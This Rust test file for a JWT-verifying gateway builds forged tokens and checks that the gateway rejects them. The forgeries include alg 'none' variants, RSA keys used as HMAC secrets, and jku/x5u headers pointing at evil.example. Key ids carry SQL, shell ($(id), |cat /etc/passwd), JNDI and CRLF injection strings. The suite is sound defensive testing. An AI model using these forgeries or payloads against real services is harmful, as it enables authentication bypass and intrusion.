//! Hostile headers, key choices and encodings.

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use hushgate_gateway::access::fault::TokenFault as Fault;
use serde_json::{Value, json};

use super::{Case, Keys, OCT, rsa_with_header, sign_as};
use crate::support::*;

pub(super) fn cases(keys: &Keys) -> Vec<Case> {
    let mut cases = algorithms(keys);
    cases.extend(confusion(keys));
    cases.extend(extensions(keys));
    cases.extend(injected_keys(keys));
    cases.extend(key_ids(keys));
    cases.extend(unfit_keys(keys));
    cases.extend(header_documents(keys));
    cases.extend(encodings(keys));
    cases.extend(requests(keys));
    cases
}

/// `alg` values, each with no signature and with one that is right for RS256.
fn algorithms(keys: &Keys) -> Vec<Case> {
    let unknown = [
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!("none "),
        json!("none\0"),
        json!(""),
        json!(" "),
        json!("RS256 "),
        json!(" RS256"),
        json!("rs256"),
        json!("Rs256"),
        json!("RS256\0"),
        json!("RS256\n"),
        json!("RS256,none"),
        json!("ＲＳ256"),
        json!("RS\u{200b}256"),
        json!("HS256"),
        json!("HS384"),
        json!("HS512"),
        json!("hs256"),
        json!("ES256K"),
        json!("ES512"),
        json!("RS1"),
        json!("SHA256withRSA"),
        json!("Ed25519"),
        json!("Ed448"),
        json!("eddsa"),
        json!("dir"),
        json!("RSA-OAEP"),
        json!("A128KW"),
        json!("ECDH-ES"),
        json!("PBES2-HS256+A128KW"),
        json!("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"),
        Value::Null,
        json!(1),
        json!(true),
        json!([]),
        json!(["RS256"]),
        json!({"alg": "RS256"}),
    ];
    let not_pinned = ["RS384", "RS512", "PS384", "PS512", "ES384"];
    let mut cases = Vec::new();
    for alg in &unknown {
        let header = json!({"alg": alg, "kid": "rsa"}).to_string();
        let unsigned = token(&header, &claims().to_string(), |_| Vec::new());
        cases.push(Case::new(
            format!("alg {alg} unsigned"),
            unsigned,
            Fault::AlgorithmUnknown,
        ));
        let signed = rsa_with_header(keys, &header);
        cases.push(Case::new(
            format!("alg {alg} signed"),
            signed,
            Fault::AlgorithmUnknown,
        ));
    }
    for alg in not_pinned {
        let header = json!({"alg": alg, "kid": "any-rsa"}).to_string();
        let pair = if alg == "ES384" {
            &keys.p384
        } else {
            &keys.any_rsa
        };
        let signed = token(&header, &claims().to_string(), |m| sign_as(pair, alg, m));
        cases.push(Case::new(
            format!("alg {alg} not pinned"),
            signed,
            Fault::AlgorithmNotPinned,
        ));
    }
    cases.push(Case::new(
        "no alg",
        rsa_with_header(keys, r#"{"kid":"rsa"}"#),
        Fault::AlgorithmUnknown,
    ));
    cases
}

/// Public keys used as HMAC secrets, and one algorithm's key with another's name.
fn confusion(keys: &Keys) -> Vec<Case> {
    let der = keys.rsa.spki();
    let body = STANDARD.encode(&der);
    let lines: Vec<&str> = (0..body.len())
        .step_by(64)
        .map(|i| &body[i..(i + 64).min(body.len())])
        .collect();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        lines.join("\n")
    );
    let jwk = published(&keys.rsa, "rsa", "RS256");
    let modulus = jwk["n"].as_str().unwrap().to_owned();
    let secrets: Vec<(&str, &str, Vec<u8>)> = vec![
        ("SPKI DER", "rsa", der.clone()),
        ("PKCS#1 DER", "rsa", keys.rsa.public()),
        ("PEM", "rsa", pem.clone().into_bytes()),
        ("PEM and newline", "rsa", format!("{pem}\n").into_bytes()),
        (
            "PEM with CRLF",
            "rsa",
            pem.replace('\n', "\r\n").into_bytes(),
        ),
        ("JWK", "rsa", jwk.to_string().into_bytes()),
        ("modulus bytes", "rsa", unb64(&modulus)),
        ("modulus text", "rsa", modulus.into_bytes()),
        ("EC point", "ec", keys.ec.public()),
        ("EC SPKI", "ec", keys.ec.spki()),
        ("Ed25519 bytes", "ed", keys.ed.public()),
        ("Ed25519 SPKI", "ed", keys.ed.spki()),
        ("published oct key", "oct", OCT.to_vec()),
        ("empty", "rsa", Vec::new()),
    ];
    let hashes = [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
    ];
    let mut cases = Vec::new();
    for (what, kid, secret) in &secrets {
        for (alg, hash) in hashes {
            let header = json!({"alg": alg, "kid": kid}).to_string();
            let forged = token(&header, &claims().to_string(), |m| mac(hash, secret, m));
            cases.push(Case::new(
                format!("{alg} with {what}"),
                forged,
                Fault::AlgorithmUnknown,
            ));
        }
    }
    for (_, kid, alg) in keys.good() {
        let header = json!({"alg": alg, "kid": kid}).to_string();
        let forged = token(&header, &claims().to_string(), |m| {
            mac(hmac::HMAC_SHA256, &der, m)
        });
        cases.push(Case::new(
            format!("{alg} over an HMAC"),
            forged,
            Fault::SignatureMismatch,
        ));
    }
    for (pair, kid, own) in keys.good() {
        for (_, _, other) in keys.good().into_iter().filter(|(.., other)| *other != own) {
            let header = json!({"alg": other, "kid": kid}).to_string();
            let signed = token(&header, &claims().to_string(), |m| {
                let alg = if own.ends_with("S256") && other.starts_with("ES") {
                    own
                } else {
                    other
                };
                if matches!(pair, Pair::Rsa(_)) {
                    sign_as(pair, alg, m)
                } else {
                    pair.sign(m)
                }
            });
            cases.push(Case::new(
                format!("{other} with the key of {own}"),
                signed,
                Fault::KeyAmbiguous,
            ));
        }
    }
    cases
}

fn mac(hash: hmac::Algorithm, secret: &[u8], message: &[u8]) -> Vec<u8> {
    hmac::sign(&hmac::Key::new(hash, secret), message)
        .as_ref()
        .to_vec()
}

/// Members that change the meaning of the rest; `typ` of other kinds of token.
fn extensions(keys: &Keys) -> Vec<Case> {
    let base = json!({"alg": "RS256", "kid": "rsa"});
    let not_understood = [
        json!({"crit": []}),
        json!({"crit": ["exp"]}),
        json!({"crit": ["exp"], "exp": NOW + 60}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"crit": ["alg"]}),
        json!({"crit": "exp"}),
        json!({"crit": null}),
        json!({"crit": {}}),
        json!({"b64": false}),
        json!({"b64": true}),
        json!({"zip": "DEF"}),
        json!({"enc": "A256GCM"}),
        json!({"cty": "JWT"}),
        json!({"cty": ""}),
    ];
    let types = [
        json!("JWE"),
        json!("JOSE"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("token-introspection+jwt"),
        json!(""),
        json!("JWT "),
        json!("jwt\0"),
        json!(null),
        json!(1),
        json!(["JWT"]),
    ];
    let extended = not_understood
        .iter()
        .map(|more| (more.clone(), Fault::ExtensionNotUnderstood));
    let other_kinds = types
        .iter()
        .map(|typ| (json!({ "typ": typ }), Fault::TypeNotAccepted));
    extended
        .chain(other_kinds)
        .map(|(more, fault)| {
            let header = with(&base, &more).to_string();
            Case::new(
                format!("header {more}"),
                rsa_with_header(keys, &header),
                fault,
            )
        })
        .collect()
}

/// Keys, or addresses of keys, that the token brings along.
fn injected_keys(keys: &Keys) -> Vec<Case> {
    let own = published(&keys.attacker, "evil", "RS256");
    let chain = json!([STANDARD.encode(keys.attacker.spki())]);
    let members = [
        ("jwk", json!({ "jwk": own })),
        (
            "jwk with the issuer's key id",
            json!({"jwk": with(&own, &json!({"kid": "rsa"}))}),
        ),
        ("jku", json!({"jku": "https://evil.example/keys"})),
        (
            "jku at the issuer",
            json!({"jku": "https://issuer.example/../evil"}),
        ),
        ("x5u", json!({"x5u": "https://evil.example/chain"})),
        ("x5u of a file", json!({"x5u": "file:///etc/passwd"})),
        ("x5c", json!({ "x5c": chain })),
        ("x5t", json!({"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"})),
        (
            "all of them",
            json!({"jwk": own, "jku": "https://evil.example", "x5u": "https://evil.example", "x5c": chain}),
        ),
    ];
    let ids = [
        (Some("rsa"), Fault::SignatureMismatch),
        (Some("evil"), Fault::KeyUnknown),
        (None, Fault::KeyAmbiguous),
    ];
    let mut cases = Vec::new();
    for (what, more) in &members {
        for (kid, fault) in ids {
            let mut header = with(&json!({"alg": "RS256"}), more);
            if let Some(kid) = kid {
                header["kid"] = json!(kid);
            }
            let forged = token(&header.to_string(), &claims().to_string(), |m| {
                keys.attacker.sign(m)
            });
            cases.push(Case::new(format!("{what}, key id {kid:?}"), forged, fault));
        }
    }
    cases
}

/// Key ids that mean something to a file system, a database, a shell or a careless comparison.
fn key_ids(keys: &Keys) -> Vec<Case> {
    let unknown = [
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\nul",
        "file:///dev/null",
        "' OR '1'='1",
        "rsa' --",
        "'; DROP TABLE keys; --",
        "x' UNION SELECT 'AAAA",
        "rsa\0",
        "\0",
        "rsa\0.pem",
        "rsa ",
        " rsa",
        "RSA",
        "Rsa",
        "rsa\n",
        "rsa\r\nX-Injected: 1",
        "rsa%00",
        "%72sa",
        "rsa/../rsa",
        "./rsa",
        "ｒｓａ",
        "rsa\u{200b}",
        "\u{202e}asr",
        "rsa\u{301}",
        "$(id)",
        "`id`",
        "|cat /etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "https://evil.example/key",
        "__proto__",
        "constructor",
        "0",
        "null",
        "rs",
        "rsaa",
        "rsa,ec",
        "*",
        ".*",
    ];
    let malformed = [
        Value::Null,
        json!(0),
        json!(true),
        json!([]),
        json!(["rsa"]),
        json!({"kid": "rsa"}),
        json!(""),
        json!("x".repeat(257)),
        json!("é".repeat(129)),
        json!("rsa".repeat(900)),
    ];
    let mut cases = Vec::new();
    for kid in unknown {
        let header = json!({"alg": "RS256", "kid": kid}).to_string();
        cases.push(Case::new(
            format!("kid {kid:?}"),
            rsa_with_header(keys, &header),
            Fault::KeyUnknown,
        ));
    }
    for kid in malformed {
        let header = json!({"alg": "RS256", "kid": kid}).to_string();
        let name: String = format!("kid {kid}").chars().take(40).collect();
        cases.push(Case::new(
            name,
            rsa_with_header(keys, &header),
            Fault::KeyIdMalformed,
        ));
    }
    let longest = json!({"alg": "RS256", "kid": "x".repeat(256)}).to_string();
    cases.push(Case::new(
        "kid of 256 bytes",
        rsa_with_header(keys, &longest),
        Fault::KeyUnknown,
    ));
    let header = json!({"alg": "HS256", "kid": "../../../../dev/null"}).to_string();
    let forged = token(&header, &claims().to_string(), |m| {
        mac(hmac::HMAC_SHA256, b"", m)
    });
    cases.push(Case::new(
        "kid of an empty file",
        forged,
        Fault::AlgorithmUnknown,
    ));
    cases
}

/// Keys that the issuer published, but not for this, each with its real private half.
fn unfit_keys(keys: &Keys) -> Vec<Case> {
    let table = [
        ("encryption", &keys.encryption, "RS256", Fault::KeyUnknown),
        ("signing", &keys.signing, "ES256", Fault::KeyUnknown),
        ("p384", &keys.p384, "ES256", Fault::KeyUnknown),
        ("p384-mislabelled", &keys.p384, "ES256", Fault::KeyUnknown),
        ("leaked", &keys.leaked, "EdDSA", Fault::KeyUnknown),
        ("oct", &keys.ed, "EdDSA", Fault::KeyUnknown),
        ("twin", &keys.twins[0], "EdDSA", Fault::KeyAmbiguous),
        ("rsa", &keys.attacker, "RS256", Fault::SignatureMismatch),
        ("pss", &keys.attacker, "PS256", Fault::SignatureMismatch),
        ("ec", &keys.attacker_ec, "ES256", Fault::SignatureMismatch),
        ("ed", &keys.attacker_ed, "EdDSA", Fault::SignatureMismatch),
        ("rsa", &keys.any_rsa, "RS256", Fault::SignatureMismatch),
    ];
    table
        .iter()
        .enumerate()
        .map(|(i, (kid, pair, alg, fault))| {
            let header = json!({"alg": alg, "kid": kid}).to_string();
            let signed = token(&header, &claims().to_string(), |m| sign_as(pair, alg, m));
            Case::new(format!("unfit key {kid} ({i})"), signed, *fault)
        })
        .collect()
}

/// Headers that are not one plain JSON object.
fn header_documents(keys: &Keys) -> Vec<Case> {
    let deep = format!(
        r#"{{"alg":"RS256","kid":"rsa","x":{}1{}}}"#,
        "[".repeat(60),
        "]".repeat(60)
    );
    let texts = [
        r#"{"alg":"none","alg":"RS256","kid":"rsa"}"#,
        r#"{"alg":"RS256","alg":"none","kid":"rsa"}"#,
        r#"{"alg":"RS256","alg":"RS256","kid":"rsa"}"#,
        r#"{"alg":"RS256","\u0061lg":"none","kid":"rsa"}"#,
        r#"{"alg":"RS256","kid":"rsa","kid":"evil"}"#,
        r#"{"alg":"RS256","kid":"evil","kid":"rsa"}"#,
        r#"{"alg":"RS256","kid":"rsa","x":{"a":1,"a":2}}"#,
        r#"[{"alg":"RS256","kid":"rsa"}]"#,
        r#""RS256""#,
        "null",
        "",
        " ",
        "{",
        r#"{"alg":"RS256","kid":"rsa"}}"#,
        r#"{"alg":"RS256","kid":"rsa"}{}"#,
        r#"{"alg":"RS256","kid":"rsa",}"#,
        r#"{"alg":"RS256","kid":"rsa"}//"#,
        r"{'alg':'RS256','kid':'rsa'}",
        r#"{alg:"RS256",kid:"rsa"}"#,
        "\u{feff}{\"alg\":\"RS256\",\"kid\":\"rsa\"}",
        "{\"alg\":\"RS256\",\"kid\":\"rsa\"}\0",
        r#"{"alg":"RS256","kid":"rsa\ud800"}"#,
        "{\"alg\":\"RS256\",\"kid\":\"rsa\n\"}",
        &deep,
    ];
    texts
        .iter()
        .map(|text| {
            let name: String = format!("header {text:?}").chars().take(60).collect();
            Case::new(name, rsa_with_header(keys, text), Fault::HeaderNotJson)
        })
        .collect()
}

/// The compact form, bent: segments, padding, alphabets, white space.
fn encodings(keys: &Keys) -> Vec<Case> {
    let good = good_token(&keys.ed, "ed", "EdDSA");
    let parts: Vec<&str> = good.split('.').collect();
    let [h, p, s] = parts[..] else { unreachable!() };
    let payload = unb64(p);
    let mut cases = Vec::new();
    let three = [
        ("one part", h.to_owned()),
        ("two parts", format!("{h}.{p}")),
        ("four parts", format!("{good}.{s}")),
        ("a dot at the end", format!("{good}.")),
        ("a dot at the start", format!(".{good}")),
        ("an empty part in the middle", format!("{h}..{p}.{s}")),
        ("five parts, as encrypted", format!("{h}.{p}.{p}.{p}.{s}")),
        ("five parts, some empty", format!("{h}....{s}")),
        ("six parts", format!("{h}.{p}.{s}.{h}.{p}.{s}")),
        ("only dots", "..".repeat(3)),
    ];
    cases.extend(three.map(|(name, token)| Case::new(name, token, Fault::NotThreeParts)));
    let not_base64 = [
        (
            "a header of impossible length",
            format!(
                "{h}A{}.{p}.{s}",
                "A".repeat((8 - (h.len() + 1) % 4 + 1) % 4)
            ),
        ),
        (
            "signature with stray bits",
            format!("{h}.{p}.{}", stray_bits(s)),
        ),
        (
            "payload with one more character",
            format!("{h}.{}.{s}", impossible_length(p)),
        ),
        (
            "signature with one more character",
            format!("{h}.{p}.{}", impossible_length(s)),
        ),
    ];
    cases.extend(not_base64.map(|(name, token)| {
        Case::any_of(name, token, &[Fault::NotBase64Url, Fault::HeaderNotJson])
    }));
    let dots = [(" two dots", ".."), ("a dot", ".")];
    cases.extend(dots.map(|(name, token)| {
        Case::any_of(name, token, &[Fault::HeaderNotJson, Fault::NotThreeParts])
    }));
    let padded = URL_SAFE.encode(&payload);
    let malformed = [
        ("padding of the header", format!("{h}=.{p}.{s}")),
        ("padding of the payload", format!("{h}.{p}=.{s}")),
        ("padding of the signature", format!("{good}==")),
        ("payload padded in full", format!("{h}.{padded}=.{s}")),
        (
            "standard alphabet",
            format!("{h}.{p}.{}+/", &s[..s.len() - 2]),
        ),
        (
            "space in the header",
            format!("{} {}.{p}.{s}", &h[..4], &h[4..]),
        ),
        ("space before a dot", format!("{h} .{p}.{s}")),
        ("space at the end", format!("{good} x")),
        ("tab", format!("{h}.{p}\t.{s}")),
        ("percent-encoded dot", format!("{h}%2e{p}%2e{s}")),
        ("quoted", format!("\"{good}\"")),
        ("in angle brackets", format!("<{good}>")),
        ("with a comma", format!("{good},{good}")),
        ("with a semicolon", format!("{good};x=1")),
        (
            "JSON serialization",
            json!({"payload": p, "signatures": [{"protected": h, "signature": s}]}).to_string(),
        ),
        (
            "flattened JSON serialization",
            json!({"payload": p, "protected": h, "signature": s}).to_string(),
        ),
        ("soft hyphen", format!("{h}.{p}\u{ad}.{s}")),
        ("full-width dot", format!("{h}．{p}．{s}")),
    ];
    cases.extend(malformed.map(|(name, token)| Case::new(name, token, Fault::HeaderMalformed)));
    let big = with(&claims(), &json!({"x": "x".repeat(6200)})).to_string();
    cases.push(Case::new(
        "over 8 KiB",
        super::ed_with_payload(keys, &big),
        Fault::TooLong,
    ));
    let huge = with(&claims(), &json!({"x": "x".repeat(200_000)})).to_string();
    cases.push(Case::new(
        "over 200 KB",
        super::ed_with_payload(keys, &huge),
        Fault::TooLong,
    ));
    cases.push(Case::new(
        "8 KiB and a byte of dots",
        ".".repeat(8193),
        Fault::TooLong,
    ));
    cases
}

/// The same bytes for a lenient decoder: the unused low bits of the last character set.
fn stray_bits(part: &str) -> String {
    assert_ne!(part.len() % 4, 0, "the last character has unused bits");
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = part.chars().next_back().unwrap();
    let stray = alphabet
        .chars()
        .nth(alphabet.find(last).unwrap() | 1)
        .unwrap();
    format!("{}{stray}", &part[..part.len() - 1])
}

/// Characters added until the length is one that no bytes encode to.
fn impossible_length(part: &str) -> String {
    let mut text = format!("{part}A");
    while text.len() % 4 != 1 {
        text.push('A');
    }
    text
}

/// Good tokens in bent requests.
fn requests(keys: &Keys) -> Vec<Case> {
    let good = good_token(&keys.ed, "ed", "EdDSA");
    let bearer = format!("Bearer {good}").into_bytes();
    let join = |parts: &[&[u8]]| parts.concat();
    let malformed: Vec<(&str, Vec<u8>)> = vec![
        ("two spaces", format!("Bearer  {good}").into_bytes()),
        ("nothing after the scheme", b"Bearer".to_vec()),
        ("a space after the scheme", b"Bearer ".to_vec()),
        (
            "the scheme twice",
            format!("Bearer Bearer {good}").into_bytes(),
        ),
        ("a parameter", format!("Bearer token={good}").into_bytes()),
        ("bytes over 127", join(&[&bearer, b"\xff"])),
        ("UTF-8 after the token", join(&[&bearer, "é".as_bytes()])),
    ];
    let repeated: Vec<(&str, Vec<Vec<u8>>)> = vec![
        (
            "the same header twice",
            vec![bearer.clone(), bearer.clone()],
        ),
        (
            "a second header of another scheme",
            vec![bearer.clone(), b"Basic YTpi".to_vec()],
        ),
        (
            "a first header of another scheme",
            vec![b"Basic YTpi".to_vec(), bearer.clone()],
        ),
        ("an empty second header", vec![bearer, Vec::new()]),
    ];
    let mut cases: Vec<Case> = malformed
        .into_iter()
        .map(|(name, value)| Case::raw(name, vec![value], &[Fault::HeaderMalformed]))
        .collect();
    cases.extend(
        repeated
            .into_iter()
            .map(|(name, values)| Case::raw(name, values, &[Fault::HeaderRepeated])),
    );
    cases
}
